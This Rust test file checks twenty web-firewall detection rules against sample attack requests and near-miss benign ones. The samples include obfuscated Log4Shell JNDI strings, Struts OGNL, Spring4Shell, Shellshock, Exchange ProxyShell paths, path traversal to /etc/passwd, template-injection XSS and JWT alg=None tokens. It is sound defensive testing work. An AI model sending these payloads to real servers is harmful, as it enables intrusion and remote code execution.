//! Each rule of the system with a request that it hits and one that it does not. The latter is like the former but for
//! what makes it an attack.

use crate::sample::{NOW, Sample};
use base64::Engine as _;
use proofhouse_custom_rules::{Message, Phase, Script, SystemRule, system_rules};

fn encode(text: &str) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text)
}

fn token(header: &str) -> String {
    format!("Bearer {}.{}.{}", encode(header), encode("{}"), encode(&"s".repeat(32)))
}

/// By id: what is hit, and what is not.
fn samples() -> Vec<(u32, Sample, Sample)> {
    let get = Sample::new;
    let post = || Sample::new().method("POST");
    vec![
        (
            1,
            get().header("User-Agent", "$%7B\u{a0}JNDI:ldap://a.test/x}"),
            get().header("User-Agent", "${name}"),
        ),
        (2, get().query("q", "%2524%257Bjndi%3Adns%3A%2F%2Fa.test%257D"), get().query("q", "jndi%3Adns")),
        (
            3,
            post().body("name=${${lower:j}ndi:ldap://a.test/x}"),
            get().body("name=${${lower:j}ndi:ldap://a.test/x}"),
        ),
        (
            4,
            get().header("Content-Type", "%{(#_memberAccess['x'])}.multipart/form-data"),
            get().header("Content-Type", "multipart/form-data; boundary=x"),
        ),
        (
            5,
            post().form("class.module.classLoader.resources.context", "x"),
            post().form("class", "module.classLoader"),
        ),
        (
            6,
            post().header("Spring.Cloud.Function.Routing-Expression", "T(java.lang.Runtime).getRuntime()"),
            post().header("Spring.Cloud.Function.Routing-Expression", "uppercase"),
        ),
        (7, get().query("q", "${script:javascript:1}"), get().query("q", "${name}")),
        (8, post().form("mail[%23post_render][]", "exec"), post().form("mail[0][value]", "post_render")),
        (
            9,
            get().path("/wp-admin/load-scripts.php").query("load[]", &"jquery-ui-core,".repeat(41)),
            get().path("/wp-admin/load-scripts.php").query("load[]", "jquery-ui-core,hoverIntent"),
        ),
        (
            10,
            get().query("name", "{{constructor.constructor('alert(1)')()}}"),
            get().query("name", "{{constructor - of, ships: and_boats}}"),
        ),
        (
            11,
            post().path("/vendor/PHPUnit/src/Util/PHP/eval-stdin.php").body("<?php phpinfo();"),
            post().path("/vendor/PHPUnit/src/Util/PHP/eval-stdin.php").body("{}"),
        ),
        (
            12,
            get().query("q", "%26lt;scr/**/ipt>x").query("p", "1"),
            get().query("q", "the script of the play"),
        ),
        (13, get().path("/icons/.%2e/%2e%2e/etc/passwd"), get().path("/icons/../etc/passwd")),
        (14, get().path("/index.php/PHP_VALUE%0Aerror_log=x"), get().path("/index.php/PHP_VALUE")),
        (
            15,
            get().path("/ecp/y.js").cookie("X-BEResource", "localhost/x?~1942062522"),
            get().path("/ecp/y.js").cookie("X-BEResource", "localhost"),
        ),
        (
            16,
            post()
                .path("/ecp/DDI/DDIService.svc/SetObject")
                .body("{\"ExternalUrl\":\"http://f/<script language='c' runat='server'>\"}"),
            post().path("/ecp/DDI/DDIService.svc/SetObject").body("{\"ExternalUrl\":\"http://f/\"}"),
        ),
        (
            17,
            get()
                .path("/Autodiscover/autodiscover.json")
                .query("Email", "autodiscover%2Fautodiscover.json%3F@a.test"),
            get().path("/Autodiscover/autodiscover.json").query("Email", "me@a.test"),
        ),
        (
            18,
            get().header("range", "bytes=0-18446744073709551615"),
            get().header("range", "bytes=0-1023, 2048-4095"),
        ),
        (
            19,
            get().header("User-Agent", "() { :; }; /bin/eject"),
            get().header("User-Agent", "call() { return; }"),
        ),
        (
            20,
            get().header("Authorization", token(r#"{"alg":"None"}"#)),
            get().header("Authorization", token(r#"{"alg":"HS256"}"#)),
        ),
    ]
}

#[test]
fn each_hits_what_it_is_for_and_nothing_else() {
    let samples = samples();
    for (rule, (id, hit, missed)) in system_rules().zip(&samples) {
        assert_eq!(rule.id, *id);
        let script = Script::parse(rule.script, Phase::Request)
            .unwrap_or_else(|error| panic!("{}: {}", rule.name, error.underlined()));
        let found = script.evaluate(hit, NOW);
        assert!(found.is_some(), "{} misses {hit:?}", rule.name);
        assert!(script.evaluate(missed, NOW).is_none(), "{} hits {missed:?}", rule.name);
        assert!(script.evaluate(&Sample::new(), NOW).is_none(), "{} hits anything", rule.name);
        let message = Message::parse(rule.message).render(hit, &found.unwrap());
        assert!(!message.contains("%re"), "{message}");
    }
    assert_eq!(samples.len(), 20);
}

/// By id: what the other alternatives of a rule are for.
fn alternatives() -> Vec<(u32, Sample)> {
    let get = Sample::new;
    let post = || Sample::new().method("POST");
    let codings = "identity, a&b&**c**d, **, , *, , , gzip";
    vec![
        (1, get().header("${jndi:dns}", "x")),
        (1, get().cookie("a", "\u{ff04}\u{ff5b}jndi:rmi}")),
        (2, get().path("/%24%7Bjndi:dns%7D")),
        (2, get().query("$%7Bjndi:dns}", "")),
        (3, post().form("a", "${${::-j}ndi:dns}")),
        (3, post().body("${jndi:ldaps://a.test/}")),
        (4, get().path("/%24%7B@java.lang.Runtime@getRuntime()%7D")),
        (4, get().query("q", "%25%7B+%23context['x']%7D")),
        (4, post().form("redirect", "#{new java.lang.ProcessBuilder()}")),
        (5, get().query("class%5B'classLoader'%5D", "x")),
        (5, get().header("suffix", "class.module.classLoader.resources")),
        (7, post().form("a", "&#36;{dns:a.test}")),
        (7, get().cookie("a", "${URL:UTF-8:http://a.test}")),
        (8, get().query("a[#lazy_builder]", "x")),
        (8, get().query("q", "a/%23value")),
        (8, get().cookie("#pre_render", "x")),
        (10, post().form("a", "{{$eval('1')}}")),
        (12, post().form("a", "&lt;SCRIPT/&gt;")),
        (12, get().query("a", "%26amp;lt;script%26amp;gt;x; alert(1)")),
        (14, get().path("/index.php%0a").query(&"Q".repeat(300), "")),
        (14, get().path("/index.php/a%0D").query("a", &"Q".repeat(300))),
        (15, get().path("/owa/a.css").cookie("X-AnonResource-Backend", "a.test~1942")),
        (
            17,
            get().path("/autodiscover/autodiscover.json").cookie("Email", "AutoDiscover/autodiscover.json?a"),
        ),
        (17, get().path("/autodiscover/autodiscover.json").query("@a.test/mapi/nspi/", "")),
        (18, get().header("Accept-Encoding", codings)),
        (19, get().cookie("a", "()%20{%20:;};%20id")),
        (20, get().header("Authorization", token(r#"{"alg":"RS256","kid":"../key"}"#))),
        (20, get().header("Authorization", token(r#"{"alg":"HS512"}"#))),
    ]
}

#[test]
fn each_alternative_hits() {
    for (id, sample) in alternatives() {
        let rule = system_rules().find(|rule| rule.id == id).expect("a rule");
        assert!(sample.hit_by(rule.script), "{} misses {sample:?}", rule.name);
    }
}

#[test]
fn they_are_twenty_with_ids_of_their_own() {
    let rules: Vec<_> = system_rules().collect();
    let ids: Vec<_> = rules.iter().map(|rule| rule.id).collect();
    assert_eq!(ids, (1..=20).collect::<Vec<_>>());
    for rule in rules {
        assert!(!rule.name.is_empty() && !rule.description.is_empty() && !rule.message.is_empty());
    }
    assert_eq!((SystemRule::OWNER, SystemRule::TYPE, SystemRule::ENABLED), ("system", "waas-request", false));
}

#[test]
fn they_are_printed_as_equal_scripts() {
    for rule in system_rules() {
        let script = Script::parse(rule.script, Phase::Request).unwrap();
        let printed = script.to_string();
        assert_eq!(Script::parse(&printed, Phase::Request).unwrap().to_string(), printed);
    }
}
